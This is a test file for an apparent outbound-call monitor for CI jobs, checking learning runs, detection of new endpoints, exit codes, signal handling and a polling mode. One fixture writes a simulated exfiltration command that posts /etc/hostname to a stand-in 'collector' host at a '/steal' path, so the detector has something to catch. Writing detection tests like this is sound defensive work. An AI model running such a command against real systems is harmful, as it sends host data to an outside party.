import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { setTimeout as pause } from "node:timers/promises";
import { createMonitor, memoryStore } from "@straycall/core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { agent, startAgent, withResolver } from "./straycall-agent.js";
import { type TestNetwork, testNetwork } from "./test-network.js";

let folder: string;
let network: TestNetwork;

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), "straycall-agent-"));
  network = await testNetwork(folder, {
    "registry.demo.test": "127.77.1.1",
    "api.demo.test": "127.77.1.2",
    "collector.demo.test": "127.77.1.3",
  });
});
afterAll(async () => {
  await network.close();
  rmSync(folder, { recursive: true });
});

const file = (name: string) => join(folder, name);
const run = (...args: string[]) => agent(["run", ...args], withResolver(network.resolvConf));
const url = (name: string, path = "/") => `http://${name}:${network.port}${path}`;

describe("a job that is run seven times", () => {
  const usual = () => `
    curl --silent ${url("registry.demo.test", "/package")} > /dev/null
    ${process.execPath} -e 'fetch("${url("api.demo.test", "/status")}").then((r) => r.text())'`;
  const stray = () => `${usual()}
    (curl --silent --data @/etc/hostname ${url("collector.demo.test", "/steal")} > /dev/null)`;
  const demo = (script: string, ...options: string[]) =>
    run("--job", "demo", "--db", file("demo.db"), ...options, "--", "sh", "-c", script);

  it("learns five times, and tells of the sixth run's extra call just once", async () => {
    for (let ordinal = 1; ordinal <= 5; ordinal += 1) {
      const { status, err } = await demo(usual());
      expect(err).toContain(`run ${ordinal} of 5 learned for demo`);
      expect(status).toBe(0);
    }

    const sixth = await demo(stray(), "--json");
    const { detections } = JSON.parse(sixth.out);
    expect(detections).toMatchObject([
      {
        kind: "new-endpoint",
        endpoint: { host: "collector.demo.test", port: network.port },
        evidence: {
          call: { ip: "127.77.1.3", http: [{ method: "POST", path: "/steal" }] },
          process: {
            args: [
              "curl",
              "--silent",
              "--data",
              "@/etc/hostname",
              url("collector.demo.test", "/steal"),
            ],
          },
        },
      },
    ]);
    const [{ evidence }] = detections;
    const { process, ancestors } = evidence;
    expect(process.pid).toBeGreaterThan(1);
    expect(process.parentPid).toBe(ancestors[0].pid);
    expect(ancestors[0].args).toEqual(["sh", "-c", stray()]);

    expect(sixth.err).toContain(`New outbound call: collector.demo.test:${network.port}`);
    expect(sixth.err).toContain(`pid ${process.pid}, parent ${process.parentPid}`);
    expect(sixth.err).toContain(
      `curl --silent --data @/etc/hostname ${url("collector.demo.test", "/steal")}`,
    );
    expect(sixth.err.match(/New outbound call/g)).toHaveLength(1);

    const seventh = await demo(stray(), "--fail-on", "info");
    expect(seventh.err).toContain("nothing new for demo");
    expect(seventh.status).toBe(0);
  });
});

describe("straycall-agent run", () => {
  const once = (...args: string[]) => run("--db", file("once.db"), "--job", "once", ...args);

  it("exits as the command does", async () => {
    expect(await once("--", "sh", "-c", "exit 42")).toMatchObject({ status: 42 });
    expect(await once("--", "sh", "-c", "kill -KILL $$")).toMatchObject({ status: 137 });
  });

  it("exits with 3 for what is new and as severe as --fail-on", async () => {
    const script = `curl --silent ${url("collector.demo.test")}`;
    const strict = ["--job", "strict", "--learning-runs", "0", "--fail-on", "info"];
    expect(await once(...strict, "--", "sh", "-c", script)).toMatchObject({ status: 3 });
    expect(await once(...strict, "--", "sh", "-c", script)).toMatchObject({ status: 0 });
    const failing = ["--job", "failing", "--learning-runs", "0", "--fail-on", "info"];
    const failed = await once(...failing, "--", "sh", "-c", `${script}; exit 9`);
    expect(failed.status).toBe(9);
    expect(failed.err).toContain("New outbound call");
  });

  it("leaves stdin, stdout and the folder to the command", async () => {
    const { child, said } = startAgent([
      "run",
      "--quiet",
      "--db",
      file("once.db"),
      "--",
      "sh",
      "-c",
      "pwd; cat",
    ]);
    child.stdin.end("from stdin\n");
    const out = `${process.cwd()}\nfrom stdin\n`;
    expect(await said).toEqual({ status: 0, out, err: "" });
  });

  it("passes the environment on to the last variable", async () => {
    const environment = { "INPUT_A-B": "kept", PATH: process.env.PATH ?? "" };
    const settings = Object.entries(environment).map(([name, value]) => `${name}=${value}`);
    const { out } = await agent(
      ["run", "--quiet", "--db", file("once.db"), "--", "env"],
      ["env", "-i", ...settings],
    );
    expect(out.trimEnd().split("\n").sort()).toEqual(settings.sort());
  });

  it("prints nothing but one line of JSON on stdout with --json", async () => {
    const { out, err } = await once("--json", "--", "sh", "-c", "echo for people");
    expect(out).toMatch(/^\{.*\}\n$/);
    expect(JSON.parse(out)).toMatchObject({ run: { outcome: "success", job: { job: "once" } } });
    expect(err).toContain("for people\n");
  });

  it("writes events from which another monitor makes the same calls", async () => {
    const events = file("events.ndjson");
    await once("--events", events, "--", "curl", "--silent", url("registry.demo.test", "/a"));
    const [{ run: ref }, ...captured] = readFileSync(events, "utf8")
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line));
    const store = memoryStore();
    const monitor = createMonitor({ store });
    const { rejected } = await monitor.ingest({ run: ref, events: captured });
    expect(rejected).toEqual([]);
    const [ended] = (await store.runs.list()).items;
    expect(ended).toMatchObject({ outcome: "success", runId: ref.runId });
    const calls = await store.calls.list(ended?.key ?? "");
    expect(calls.items.map((call) => call.endpoint)).toContainEqual({
      host: "registry.demo.test",
      port: network.port,
    });
    await monitor.close();
  });

  it("passes SIGTERM on, and ends when the command has dealt with it", async () => {
    const ready = file("ready");
    const script = `trap 'echo dealt with; exit 7' TERM; touch ${ready}; while :; do sleep 0.1; done`;
    const { child, said } = startAgent(["run", "--db", file("once.db"), "--", "sh", "-c", script]);
    while (!existsSync(ready)) await pause(50);
    child.kill("SIGTERM");
    expect(await said).toMatchObject({ status: 7, out: "dealt with\n" });
  });

  it("exits with 128+N when the signal it passed on killed the command", async () => {
    const ready = file("ready-to-die");
    const { child, said } = startAgent([
      "run",
      "--db",
      file("once.db"),
      "--json",
      "--",
      "sh",
      "-c",
      `touch ${ready}; exec sleep 60`,
    ]);
    while (!existsSync(ready)) await pause(50);
    child.kill("SIGINT");
    const { status, out } = await said;
    expect(status).toBe(130);
    expect(JSON.parse(out)).toMatchObject({ run: { outcome: "cancelled" } });
  });

  it("leaves background processes alone and counts them", async () => {
    const [end, done] = [file("end"), file("done")];
    const lasting = `(until [ -e ${end} ]; do sleep 0.1; done; touch ${done}) > /dev/null 2>&1 < /dev/null &`;
    const { err, status } = await once("--", "sh", "-c", lasting);
    expect(status).toBe(0);
    expect(err).toMatch(/[12] background process(es)? outlived the command/);
    writeFileSync(end, "");
    while (!existsSync(done)) await pause(100);
  });

  it("says that a command is not found, or cannot be executed", async () => {
    const missing = await once("--", "no-such-command");
    expect(missing).toMatchObject({ status: 127, out: "" });
    expect(missing.err).toContain("no-such-command: not found");
    writeFileSync(file("notes"), "not a program");
    expect(await once("--", file("notes"))).toMatchObject({ status: 126 });
  });

  it("does not run the command when the database cannot be written", async () => {
    const touched = file("touched");
    const { status, err } = await run("--db", "/proc/straycall.db", "--", "touch", touched);
    expect(status).toBe(125);
    expect(err).toContain("/proc/straycall.db");
    expect(existsSync(touched)).toBe(false);
  });
});

describe("without the right to capture", () => {
  const nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--no-new-privs"];

  it("does not run the command and says what is missing", async () => {
    const { status, out, err } = await agent(
      ["run", "--db", "/tmp/straycall-nobody.db", "--", "echo", "it ran"],
      nobody,
    );
    expect({ status, out }).toEqual({ status: 125, out: "" });
    expect(err).toMatch(/root|CAP_/);
  });

  it("runs it when polling was asked for, and says what it did not see", async () => {
    const database = "/tmp/straycall-nobody-polling.db";
    const options = ["--db", database, "--job", "demo", "--capture", "polling", "--json"];
    const hold =
      "import socket,sys,time; s = socket.create_connection(('127.0.0.1', int(sys.argv[1]))); time.sleep(1)";
    const command = ["/usr/bin/python3", "-c", hold, String(network.port)];
    const { status, out, err } = await agent(["run", ...options, "--", ...command], nobody);
    for (const suffix of ["", "-shm", "-wal"]) rmSync(database + suffix, { force: true });
    expect(status).toBe(0);
    const { run } = JSON.parse(out);
    expect(run.job.job).toBe("demo (polling)");
    expect(run.coverage.level).toBe("partial");
    expect(err).toContain("1 call");
    expect(err).toContain("Names are not seen");
  });
});

describe("a background process of a polled command", () => {
  it("is adopted, counted and left running", async () => {
    const [end, done] = [file("end-polled"), file("done-polled")];
    const lasting = `((until [ -e ${end} ]; do sleep 0.1; done; touch ${done}) > /dev/null 2>&1 < /dev/null &)`;
    const { err } = await run(
      ...["--db", file("left.db"), "--capture", "polling"],
      ...["--", "sh", "-c", lasting],
    );
    expect(err).toMatch(/[12] background process(es)? outlived the command/);
    writeFileSync(end, "");
    while (!existsSync(done)) await pause(100);
  });
});
